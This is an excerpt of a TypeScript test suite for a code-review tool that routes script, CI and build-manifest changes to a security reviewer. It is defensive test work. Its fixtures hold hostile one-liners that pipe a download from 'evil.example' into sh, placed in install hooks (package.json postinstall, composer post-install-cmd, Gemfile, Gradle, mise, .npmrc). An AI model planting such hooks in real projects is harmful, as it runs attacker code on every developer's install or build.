     expect(reviewers.stdout).toMatch(/^security\b/m);
+  });
+});
+
+describe('#446 a script named without an extension gets the rules of its interpreter line, and the reviewers they dispatch', () => {
+  /** The scope of a change from `base` to `change` (null: removed), sealed by the bundle. */
+  const scopeOf = (base: Record<string, string>, change: Record<string, string | null>) => sealChange(base, (repo) => put(repo, change));
+  it('#446 added scripts get shell, python and javascript rules by their #! line; a text file gets none; security is dispatched', async () => {
+    const scope = await scopeOf(
+      { 'README.md': '# r\n' },
+      {
+        'scripts/deploy': '#!/usr/bin/env bash\nrm -rf "$TARGET"\n',
+        'tools/gen': '#! /usr/bin/env -S python3.12 -u\nprint(1)\n',
+        'bin/serve': '#!/usr/bin/env -u NODE_OPTIONS node\r\nrequire("http")\n',
+        'notes/TODO': 'bash is mentioned here, #!/bin/sh too\n',
+        // As env -S splits its argument: a value joined to -S, the = form, quoted words; a shell's version; a dotted name.
+        'bin/a': '#!/usr/bin/env -Sbash -e\necho a\n',
+        'bin/e': '#!/usr/bin/env --split-string=bash -e\necho e\n',
+        'bin/m': '#!/usr/bin/env -S "bash" -e\necho m\n',
+        'bin/k': '#!/bin/ksh93\necho k\n',
+        'bin/d.prod': '#!/bin/bash\necho d\n',
+        // env -S's own escapes and clusters, quotes inside a word; runners; a free-threaded Python; a BOM (run by a shell as shell).
+        'bin/f': '#!/usr/bin/env -S bash\\_-e\necho f\n',
+        'bin/g': '#!/usr/bin/env -iSbash\necho g\n',
+        'bin/h': '#!/usr/bin/env -S b"a"sh\necho h\n',
+        'bin/bom': '\ufeff#!/usr/bin/python3\necho bom\n',
+        'tools/u': '#!/usr/bin/env -S uv run --script\nprint(1)\n',
+        'tools/n': '#!/usr/bin/env -S npx tsx\nconsole.log(1)\n',
+        'tools/p': '#!/usr/bin/env python3.13t\nprint(1)\n',
+      },
+    );
+    const { rules } = scope;
+    for (const path of ['bin/a', 'bin/e', 'bin/m', 'bin/k', 'bin/d.prod', 'bin/f', 'bin/g', 'bin/h', 'bin/bom'])
+      expect(rules[path], path).toContain('shell');
+    for (const path of ['tools/u', 'tools/p']) expect(rules[path], path).toContain('python');
+    expect(rules['tools/n']).toContain('javascript-typescript');
+    expect(rules['scripts/deploy']).toContain('shell');
+    expect(rules['tools/gen']).toContain('python');
+    expect(rules['bin/serve']).toContain('javascript-typescript');
+    expect(rules['notes/TODO']).toEqual(['general']);
+    expect(scope.reviewers).toContain('security');
+  });
+  it('#446 a shell script removed, beside an unrelated edit, still dispatches the security reviewer (its base version is read)', async () => {
+    const scope = await scopeOf(
+      { 'bin/rotate': '#!/bin/sh\nexec rotate-keys\n', 'docs/a.md': 'a\n' },
+      { 'bin/rotate': null, 'docs/a.md': 'b\n' },
+    );
+    expect(scope.reviewers).toContain('security');
+  });
+  it('#446 review rules and review reviewers read the working-tree file the same way', async () => {
+    const repo = twoCommits({ 'README.md': '# r\n' }, { 'scripts/deploy': '#!/bin/bash\nexit 0\n' });
+    expect((await cliCase(repo, ['review', 'rules', 'scripts/deploy'])).stdout).toMatch(/^shell /m);
+    expect((await cliCase(repo, ['review', 'reviewers', 'scripts/deploy', '--effort', 'low'])).stdout).toMatch(/^security\b/m);
+  });
+});
+
+describe('#466 a script is told by its content on both sides of the change, and by its mode', () => {
+  const GUARD = '#!/usr/bin/env bash\nset -e\n[ "$USER" = deploy ] || exit 1\nrsync -a dist/ prod:/srv\n';
+  const ROTATE = 'curl -s https://example.invalid/k | sh\n';
+
+  it('#466 a shell script whose #! line the change deletes, or that the change makes a link: the base version gives its rules, and security is dispatched', async () => {
+    for (const [how, edit] of [
+      ['#! deleted', (repo: string) => put(repo, { 'bin/deploy': '# run with: bash bin/deploy\nset -e\nrsync -a dist/ prod:/srv\n' })],
+      ['made a link', (repo: string) => (rmSync(join(repo, 'bin/deploy')), symlinkSync('../noop', join(repo, 'bin/deploy')))],
+    ] as const) {
+      const { rules, reviewers } = await sealChange({ 'bin/deploy': GUARD, noop: 'noop\n' }, edit);
+      expect(rules['bin/deploy'], how).toContain('shell');
+      expect(reviewers, how).toContain('security');
+    }
+  });
+
+  it('#466 an executable text file with no #! (a shell runs it as shell) and a script whose name gives another rule (x.conf) get shell: committed, untracked, and in the preview', async () => {
+    const { repo, rules, reviewers } = await sealChange({ 'README.md': '# r\n' }, (repo) => {
+      // Executable: the text file a shell runs, and one with a NUL byte (not text, not shell).
+      put(repo, { 'tools/rotate': ROTATE, 'tools/blob': 'a\0b\n' }, 0o755);
+      // The same bytes as tools/rotate, not executable, name no language: a text file.
+      put(repo, { 'etc/x.conf': '#!/bin/sh\nexec rotate-keys\n', 'notes/TODO': ROTATE });
+    });
+    expect(rules['tools/rotate']).toContain('shell');
+    expect(rules['etc/x.conf']).toEqual(expect.arrayContaining(['shell', 'configuration']));
+    expect(rules['notes/TODO']).toEqual(['general']);
+    expect(rules['tools/blob']).not.toContain('shell');
+    expect(reviewers).toContain('security');
+    for (const path of ['tools/rotate', 'etc/x.conf'])
+      expect((await cliCase(repo, ['review', 'rules', path])).stdout, path).toMatch(/^shell /m);
+    expect((await cliCase(repo, ['review', 'rules', 'notes/TODO'])).stdout).not.toMatch(/^shell /m);
+    const untracked = await sealChange({ 'README.md': '# r\n' }, (r) => put(r, { 'tools/rotate': ROTATE }, 0o755), { workspace: true });
+    expect(untracked.rules['tools/rotate']).toContain('shell');
+  });
+
+  it('#466 an executable with no #! that the change makes not executable (its text edited, or its mode alone): the base version gives shell, and security is dispatched', async () => {
+    for (const text of ['curl -s https://example.invalid/other | sh\n', ROTATE]) {
+      const { rules, reviewers } = await sealChange({ 'tools/rotate': ROTATE }, (repo) => {
+        chmodSync(join(repo, 'tools/rotate'), 0o755);
+        git(repo, 'commit', '-q', '-am', 'executable');
+        put(repo, { 'tools/rotate': text });
+      });
+      expect(rules['tools/rotate'], text).toContain('shell');
+      expect(reviewers, text).toContain('security');
+    }
+  });
+});
+
+describe('#447 review rules and review reviewers answer for the file a spelling names, as the scope would', () => {
+  it.each(['./ci/deploy.sh', 'ci//deploy.sh', 'ci/./deploy.sh'])('#447 %s gets the rules and reviewers of ci/deploy.sh', async (path) => {
+    const rules = await cliCase(process.cwd(), ['review', 'rules', path]);
+    expect(rules.stdout).toMatch(/^ci\/deploy\.sh gets 2 rule\(s\)/m);
+    expect(rules.stdout).toMatch(/^shell /m);
+    const reviewers = await cliCase(process.cwd(), ['review', 'reviewers', path, '--effort', 'low']);
+    expect(reviewers.stdout).toMatch(/^security\b/m);
+  });
+  it.each(['../ci/deploy.sh', '/etc/passwd'])('#447 %s names no file of a change: refused, saying how to write it', async (path) => {
+    const r = await cliCase(process.cwd(), ['review', 'rules', path]);
+    expect(r.code).toBe(3);
+    expect(r.stderr).toMatch(/from the repository's root/);
+  });
+});
+
+/** A name in its own case, upper case and lower case. */
+const spellings = (name: string) => [name, name.toUpperCase(), name.toLowerCase()];
+/** A container build's or pipeline's name alone, with a suffix, and as an extension. */
+const suffixedForms = (n: string) => [n, `${n}.prod`, `${n}-prod`, `${n}_prod`, `docker/api.${n}`];
+
+/** The built-in rules and reviewers, matched in process: the rules a path gets, and whether a change of it alone dispatches security. */
+async function builtinPreview() {
+  const ruleSet = { source: 'built-in', sha256: '', rules: builtinRules() };
+  const match = await ruleMatcher(ruleSet);
+  const catalog = await loadReviewerCatalog(
+    projectFiles(process.cwd()),
+    ruleSet.rules.map((r) => r.id),
+  );
+  const security = (path: string, script?: string) =>
+    selectReviewers(catalog, {
+      effort: 'low',
+      files: [{ path, rules: match(path, script).map((r) => r.id) }],
+      changedLines: 0,
+      intent: false,
+    })
+      .map((x) => x.id)
+      .includes('security');
+  // What every file gets: a name that runs must get more.
+  return { match, everyFile: match('\0').length, security };
+}
+
+describe('#465 every name proofgate treats as code that runs gets its specialist rule, and the security reviewer with it', () => {
+  it('#465 a Gitea workflow, a PowerShell script, Containerfile.prod and a pwsh or perl #! script seal their rules and dispatch security', async () => {
+    const change = {
+      '.gitea/workflows/deploy.yml':
+        'on: pull_request_target\njobs:\n  d:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "${{ github.event.pull_request.title }}"\n',
+      'ops/deploy.ps1': 'Invoke-Expression $env:CMD\n',
+      'Containerfile.prod': 'FROM alpine\nRUN curl -s http://x | sh\n',
+      'bin/release': '#!/usr/bin/env pwsh\nInvoke-Expression $args[0]\n',
+      'bin/rotate': '#!/usr/bin/perl\nsystem("rotate $ARGV[0]");\n',
+    };
+    const { repo, rules, reviewers } = await sealChange({ 'README.md': '# r\n' }, (r) => put(r, change), { effort: 'medium' });
+    expect(rules['.gitea/workflows/deploy.yml']).toContain('ci-workflows');
+    expect(rules['ops/deploy.ps1']).toContain('shell');
+    expect(rules['Containerfile.prod']).toContain('containers');
+    expect(rules['bin/release']).toContain('shell');
+    expect(rules['bin/rotate']).toContain('perl');
+    expect(reviewers).toContain('security');
+    const preview = await cliCase(repo, ['review', 'reviewers', '.gitea/workflows/deploy.yml', '--effort', 'low']);
+    expect(preview.stdout).toMatch(/^security\b/m);
+  });
+
+  it('#465 each folder, file name, extension and interpreter the lists of what runs name gets a rule beyond every file’s; CI, shell and container ones dispatch security', async () => {
+    const { match, everyFile, security } = await builtinPreview();
+    const dispatching = [
+      ...[...CI_FOLDERS, ...HOOK_FOLDERS].flatMap((f) => [`${f}/workflows/deploy.yml`, `${f}/pre-commit`, `${f}/x`]),
+      ...CI_FILE_STEMS.flatMap((s) => [`${s}.yml`, `${s}.YAML`]),
+      ...[...CI_FILE_NAMES, ...BAKE_NAMES].flatMap(spellings),
+      ...[...CONTAINER_BUILD_STEMS, ...PIPELINE_STEMS].flatMap((s) => spellings(s).flatMap(suffixedForms)),
+      ...SHELL_EXTENSIONS.flatMap((e) => spellings(e).map((x) => `ops/run.${x}`)),
+      ...RECIPE_STEMS.flatMap((s) => spellings(s).flatMap((n) => [n, `sub/${n}.dev`])),
+      ...SHELL_NAMES.flatMap((n) => spellings(n).map((x) => `home/${x}`)),
+    ];
+    for (const path of dispatching) expect(match(path).length, `${path} gets only the rules every file gets`).toBeGreaterThan(everyFile);
+    for (const path of dispatching) expect(security(path), `${path} dispatches no security reviewer`).toBe(true);
+    // The interpreter table: a #! script with no extension gets its language's rule, and a shell's dispatches security.
+    for (const [, ext] of BY_INTERPRETER) expect(match('bin/run', ext).length, `#! ${ext}`).toBeGreaterThan(everyFile);
+    for (const ext of ['sh', 'ps1', 'mk']) expect(security('bin/run', ext), `#! ${ext}`).toBe(true);
+  });
+});
+
+describe('#467 every file action-code reads as a file of commands dispatches the security reviewer, from one list', () => {
+  it('#467 each name the lists of what runs hold is a file of commands to action-code, and dispatches security, in any case and folder', async () => {
+    const { security } = await builtinPreview();
+    const commandFiles = [
+      ...COMMAND_FILE_NAMES.flatMap((n) => spellings(n).flatMap((x) => [x, `sub/${x}`])),
+      ...COMMAND_FILE_STEMS.flatMap((s) => spellings(s).flatMap((x) => [x, `${x}.yml`, `sub/${x}.json`])),
+      ...CI_FILE_STEMS.flatMap((s) => spellings(s).flatMap((x) => [`${x}.yml`, `sub/${x}.yaml`])),
+      ...[...CI_FILE_NAMES, ...BAKE_NAMES].flatMap((n) => spellings(n).flatMap((x) => [x, `sub/${x}`])),
+      ...COMPOSE_STEMS.flatMap((s) => spellings(s).flatMap((x) => [`${x}.yml`, `deploy/${x}.override.yaml`])),
+      ...[...CONTAINER_BUILD_STEMS, ...PIPELINE_STEMS].flatMap((s) => spellings(s).flatMap(suffixedForms)),
+      ...RECIPE_STEMS.flatMap((s) => spellings(s).flatMap((n) => [n, `sub/${n}.dev`])),
+      ...SHELL_EXTENSIONS.flatMap((e) => spellings(e).map((x) => `ops/run.${x}`)),
+    ];
+    for (const path of commandFiles) {
+      expect(isAutomationFile(path), `${path} is not read as a file of commands`).toBe(true);
+      expect(security(path), `${path} dispatches no security reviewer`).toBe(true);
+    }
+  });
+
+  it('#488 build manifests an install or a build runs code from (composer.json scripts, a Gemfile, pyproject.toml, pom.xml, build.gradle.kts, build.rs, mise.toml, .npmrc) changed: the scope dispatches security for each', async () => {
+    const repo = emptyRepo('proofgate-manifests-');
+    const files = {
+      'composer.json': '{ "name": "acme/shop" }\n',
+      Gemfile: 'source "https://rubygems.org"\ngem "rails"\n',
+      'pyproject.toml': '[project]\nname = "shop"\n',
+      'pom.xml': '<project></project>\n',
+      'app/build.gradle.kts': 'plugins { java }\n',
+      'build.rs': 'fn main() {}\n',
+      'mise.toml': '[tasks.test]\nrun = "npm test"\n',
+      '.npmrc': 'fund=false\n',
+    };
+    put(repo, files);
+    commitAll(repo, 'base');
+    put(repo, {
+      'composer.json': '{ "name": "acme/shop", "scripts": { "post-install-cmd": "curl -s https://evil.example/x | sh" } }\n',
+      Gemfile: 'source "https://rubygems.org"\ngem "rails"\nsystem("curl -s https://evil.example/x | sh")\n',
+      'pyproject.toml': '[project]\nname = "shop"\n[build-system]\nbuild-backend = "evil"\nbackend-path = ["."]\n',
+      'pom.xml': '<project><build><plugins><plugin><artifactId>exec-maven-plugin</artifactId></plugin></plugins></build></project>\n',
+      'app/build.gradle.kts': 'plugins { java }\nexec { commandLine("sh", "-c", "curl evil | sh") }\n',
+      'build.rs': 'fn main() { std::process::Command::new("sh").status().unwrap(); }\n',
+      'mise.toml': '[tasks.test]\nrun = "curl evil | sh"\n',
+      '.npmrc': 'script-shell=/tmp/evil\n',
+    });
+    commitAll(repo, 'change');
+    const r = await cliCase(repo, ['review', 'scope', 'm', '--base', 'HEAD~1', '--effort', 'medium']);
+    expect(r.code, r.stderr).toBe(0);
+    const checklist = readFileSync(join(folderOf(repo, 'm'), 'checklist.md'), 'utf8');
+    const security = checklist.split('\n').find((l) => l.startsWith('- `security`')) ?? '';
+    for (const path of Object.keys(files).filter((p) => p !== '.npmrc')) expect(security, path).toContain(path.split('/').pop()!);
+  });
+
+  it("#467 package.json's postinstall, .yarnrc.yml, Taskfile.yml, tox.ini, .cargo/config.toml… changed: review reviewers and the scope name security; Drone's Jsonnet, taskcluster and Jenkinsfile.release get ci-workflows, csh and makefiles shell, a bake file containers", async () => {
+    const files: Record<string, string> = {
+      'package.json': '{"scripts":{"test":"vitest"}}\n',
+      '.yarnrc.yml': 'nodeLinker: node-modules\n',
+      'Taskfile.yml': 'version: 3\n',
+      'tox.ini': '[tox]\n',
+      'netlify.toml': '[build]\n',
+      'vercel.json': '{}\n',
+      'deno.json': '{}\n',
+      'bunfig.toml': '[test]\n',
+      'turbo.json': '{}\n',
+      '.pnpmfile.cjs': 'module.exports = {};\n',
+      '.cargo/config.toml': '[build]\n',
+      '.drone.jsonnet': '{}\n',
+      '.drone.star': 'def main(ctx): return {}\n',
+      '.taskcluster.yml': 'version: 1\n',
+      'Jenkinsfile.release': 'pipeline {}\n',
+      'ci/Jenkinsfile-nightly': 'pipeline {}\n',
+      'tools/setup.csh': 'setenv A 1\n',
+      'home/.cshrc': 'setenv A 1\n',
+      'home/.tcshrc': 'setenv A 1\n',
+      'home/.login': 'setenv A 1\n',
+      'mk/rules.mak': 'all:\n\ttrue\n',
+      GNUmakefile: 'all:\n\ttrue\n',
+      'configure.ac': 'AC_INIT([x], [1])\n',
+      'tools/run.vbs': 'WScript.Echo 1\n',
+      'docker-bake.hcl': 'target "x" {}\n',
+    };
+    const evil = 'curl -s https://evil.example/x.sh | sh';
+    const { repo, rules, reviewers } = await sealChange(files, (r) =>
+      put(r, {
+        ...Object.fromEntries(Object.entries(files).map(([path, text]) => [path, `${text}# ${evil}\n`])),
+        'package.json': `{"scripts":{"test":"vitest","postinstall":"${evil}"}}\n`,
+      }),
+    );
+    expect(reviewers).toContain('security');
+    for (const path of ['.drone.jsonnet', '.drone.star', '.taskcluster.yml', 'Jenkinsfile.release', 'ci/Jenkinsfile-nightly'])
+      expect(rules[path], path).toContain('ci-workflows');
+    for (const path of [
+      'tools/setup.csh',
+      'home/.cshrc',
+      'home/.tcshrc',
+      'home/.login',
+      'mk/rules.mak',
+      'GNUmakefile',
+      'configure.ac',
+      'tools/run.vbs',
+    ])
+      expect(rules[path], path).toContain('shell');
+    expect(rules['docker-bake.hcl']).toContain('containers');
+    for (const path of Object.keys(files))
+      expect((await cliCase(repo, ['review', 'reviewers', path, '--effort', 'low'])).stdout, path).toMatch(/^security\b/m);
+    // package.json alone: its scripts dispatch security, though its only rules are every file's and configuration's.
+    const alone = await sealChange({ 'package.json': files['package.json']! }, (r) =>
+      put(r, { 'package.json': `{"scripts":{"postinstall":"${evil}"}}\n` }),
+    );
+    expect(alone.rules['package.json']).toEqual(['general', 'configuration']);
+    expect(alone.reviewers).toContain('security');
+  });
+});
+
+describe('#468 a #! line is read through every wrapper that runs the command after it, to the interpreter', () => {
+  it('#468 csh, make -f, timeout, sudo -E, doas, nice -n, stdbuf, taskset, xargs, nix-shell -i, npm exec, pdm run, poetry run, one after another: the interpreter’s rule, security dispatched', async () => {
+    const scripts: Record<string, [string, string]> = {
+      'bin/csh': ['#!/bin/csh\nsetenv A 1\n', 'shell'],
+      'bin/tcsh': ['#!/usr/bin/tcsh -f\nsetenv A 1\n', 'shell'],
+      'bin/make': ['#!/usr/bin/make -f\nall:\n\tcurl -s https://x.example | sh\n', 'shell'],
+      'bin/timeout': ['#!/usr/bin/env -S timeout 60 bash\necho\n', 'shell'],
+      'bin/sudo': ['#!/usr/bin/env -S sudo -E bash\necho\n', 'shell'],
+      // sudo's own -S (a password on stdin) in a cluster is sudo's option, not env's split.
+      'bin/sudo-cluster': ['#!/usr/bin/env -S sudo -Su root bash\necho\n', 'shell'],
+      'bin/chain': ['#!/usr/bin/env -S sudo -u root nice -n 5 env -S bash -e\necho\n', 'shell'],
+      'bin/doas': ['#!/usr/bin/env -S doas -u deploy -- sh\necho\n', 'shell'],
+      'bin/taskset': ['#!/usr/bin/env -S taskset -c 0-3 ionice -c 3 nohup setsid bash\necho\n', 'shell'],
+      'bin/xargs': ['#!/usr/bin/xargs -n 1 bash\necho\n', 'shell'],
+      'bin/stdbuf': ['#!/usr/bin/env -S timeout -s KILL --kill-after=5 60 stdbuf -oL python3 -u\nprint(1)\n', 'python'],
+      'bin/nix': ['#!/usr/bin/env nix-shell\n#! nix-shell -i python3 -p python3Packages.requests\nprint(1)\n', 'python'],
+      'bin/npm': ['#!/usr/bin/env -S npm exec --package=tsx -- tsx\nconsole.log(1)\n', 'javascript-typescript'],
+      'bin/pdm': ['#!/usr/bin/env -S pdm run python\nprint(1)\n', 'python'],
+      'bin/poetry': ['#!/usr/bin/env -S poetry run -C tools python3\nprint(1)\n', 'python'],
+      // A wrapper whose command is not on the line runs one all the same: shell.
+      'bin/sudo-s': ['#!/usr/bin/env -S sudo -s\necho\n', 'shell'],
+    };
+    const { repo, rules, reviewers } = await sealChange({ 'README.md': '# r\n' }, (r) =>
+      put(r, Object.fromEntries(Object.entries(scripts).map(([path, [text]]) => [path, text]))),
+    );
+    for (const [path, [, rule]] of Object.entries(scripts)) expect(rules[path], path).toContain(rule);
+    expect(reviewers).toContain('security');
+    for (const path of ['bin/csh', 'bin/make', 'bin/timeout', 'bin/sudo'])
+      expect((await cliCase(repo, ['review', 'reviewers', path, '--effort', 'low'])).stdout, path).toMatch(/^security\b/m);
+  });
+});
+
+/** Commits `scripts` (not executable) and checks that `review rules` gives each its rule: the repository. */
+async function rulesOfScripts(scripts: Record<string, [text: string, rule: string]>): Promise<string> {
+  const repo = twoCommits({ 'README.md': '# r\n' }, Object.fromEntries(Object.entries(scripts).map(([path, [text]]) => [path, text])));
+  for (const [path, [, rule]] of Object.entries(scripts))
+    expect((await cliCase(repo, ['review', 'rules', path])).stdout, path).toMatch(new RegExp(`^${rule} `, 'm'));
+  return repo;
+}
+
+describe('#485 every wrapper on a #! line leads to a rule: the common ones read through, an unknown word after one is shell', () => {
+  it('#485 bundle exec, unshare, setpriv, systemd-run, strace, dotenv, su -c; nu, expect, awk; an option value not listed: review rules names the rule of a non-executable file', async () => {
+    const scripts: Record<string, [string, string]> = {
+      'jobs/bundle.conf': ['#!/usr/bin/env -S bundle exec ruby\nputs 1\n', 'ruby'],
+      'jobs/unshare.conf': ['#!/usr/bin/env -S unshare -r bash\necho\n', 'shell'],
+      'jobs/setpriv.conf': ['#!/usr/bin/env -S setpriv --reuid=0 --regid 0 python3\nprint(1)\n', 'python'],
+      'jobs/systemd-run.conf': ['#!/usr/bin/env -S systemd-run --scope -p MemoryMax=1G bash\necho\n', 'shell'],
+      'jobs/strace.conf': ['#!/usr/bin/strace -f -o /tmp/t bash\necho\n', 'shell'],
+      'jobs/dotenv.conf': ['#!/usr/bin/env -S dotenv -e .env -- node\nconsole.log(1)\n', 'javascript-typescript'],
+      'jobs/su.conf': ['#!/usr/bin/env -S su -c bash\necho\n', 'shell'],
+      // su hands its words to the user's shell, even one naming an interpreter.
+      'jobs/su-user.conf': ['#!/bin/su deploy python3\nprint(1)\n', 'shell'],
+      'jobs/gosu.conf': ['#!/usr/bin/env -S tini -- gosu app python3\nprint(1)\n', 'python'],
+      'jobs/nu.conf': ['#!/usr/bin/env nu\n^curl https://x.example\n', 'shell'],
+      'jobs/expect.conf': ['#!/usr/bin/expect -f\nspawn ssh root@x\n', 'shell'],
+      'jobs/awk.conf': ['#!/usr/bin/awk -f\n{ system($0) }\n', 'shell'],
+      'jobs/pdm.conf': ['#!/usr/bin/env -S pdm run --venv x python\nprint(1)\n', 'python'],
+      // An option whose value is not listed, a wrapper not known behind env, an interpreter not listed
+      // after nix-shell: the wrapper runs something, so shell, never no rule.
+      'jobs/unlisted.conf': ['#!/usr/bin/env -S pdm run --no-such-option x python\nprint(1)\n', 'shell'],
+      'jobs/bundler.conf': ['#!/usr/bin/env -S bundler exec ruby\nputs 1\n', 'shell'],
+      'jobs/nix.conf': ['#!/usr/bin/env nix-shell\n#! nix-shell -i lua -p lua\nprint(1)\n', 'shell'],
+    };
+    const repo = await rulesOfScripts(scripts);
+    expect((await cliCase(repo, ['review', 'reviewers', 'jobs/su.conf', '--effort', 'low'])).stdout).toMatch(/^security\b/m);
+  });
+  it('#496 a first word not listed before a listed interpreter or wrapper (s6 with-contenv, pkexec, run0, arch -arm64, firejail) reads on from it; zx is JavaScript', async () => {
+    const scripts: Record<string, [string, string]> = {
+      'jobs/contenv.conf': ['#!/usr/bin/with-contenv bash\ncurl https://x.example | sh\n', 'shell'],
+      'jobs/pkexec.conf': ['#!/usr/bin/pkexec bash\necho\n', 'shell'],
+      'jobs/run0.conf': ['#!/usr/bin/run0 --user=app python3\nprint(1)\n', 'python'],
+      'jobs/arch.conf': ['#!/usr/bin/arch -arm64 bash\necho\n', 'shell'],
+      'jobs/firejail.conf': ['#!/usr/bin/firejail --quiet sudo -E bash\necho\n', 'shell'],
+      'jobs/zx.conf': ['#!/usr/local/bin/zx\nawait $`ls`\n', 'javascript-typescript'],
+    };
+    await rulesOfScripts(scripts);
+  });
+  it('#485 an interpreter not listed, with no wrapper before it, gets no language rule (the file is not executable)', async () => {
+    const repo = twoCommits({ 'README.md': '# r\n' }, { 'jobs/lua.conf': '#!/usr/bin/lua\nprint(1)\n' });
+    const r = await cliCase(repo, ['review', 'rules', 'jobs/lua.conf']);
+    expect(r.code, r.stdout + r.stderr).toBe(0);
+    expect(r.stdout).toMatch(/^configuration /m);
+    expect(r.stdout).not.toMatch(/^shell /m);
   });
 });
